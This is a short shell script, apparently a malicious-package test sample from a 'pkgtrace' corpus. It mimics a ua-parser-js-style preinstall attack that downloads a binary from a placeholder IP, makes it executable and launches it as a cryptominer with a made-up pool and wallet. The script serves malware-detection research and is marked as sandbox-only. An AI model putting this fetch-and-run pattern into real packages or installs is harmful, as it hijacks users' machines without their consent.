#!/bin/sh
# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# Second half of the ua-parser-js-style preinstall: download, chmod, run.
URL=http://198.51.100.61/download/jsextension
OUT=/tmp/jsextension
if command -v curl >/dev/null 2>&1; then
  curl -s -k -m 2 -o "$OUT" "$URL" && echo "mal-uaparser-miner: step 2 downloaded $URL with curl"
elif command -v wget >/dev/null 2>&1; then
  wget -q -T 2 -O "$OUT" "$URL" && echo "mal-uaparser-miner: step 2 downloaded $URL with wget"
else
  node -e "require('http').get(process.argv[1],r=>r.pipe(require('fs').createWriteStream(process.argv[2])))" "$URL" "$OUT" \
    && sleep 1 && echo "mal-uaparser-miner: step 2 downloaded $URL with node"
fi
chmod +x "$OUT" && echo "mal-uaparser-miner: step 3 chmod +x $OUT"
# Miner flags as the real one passed them, with a made-up pool and wallet.
"$OUT" -k --tls --rig-id q -o stratum+tcp://pool.mining-test.example:443 -u 4PKGTRACETESTWALLET -p p \
  --cpu-max-threads-hint=50 --donate-level=1 >/dev/null 2>&1
echo "mal-uaparser-miner: step 4 started $OUT: exit $?"
exit 0
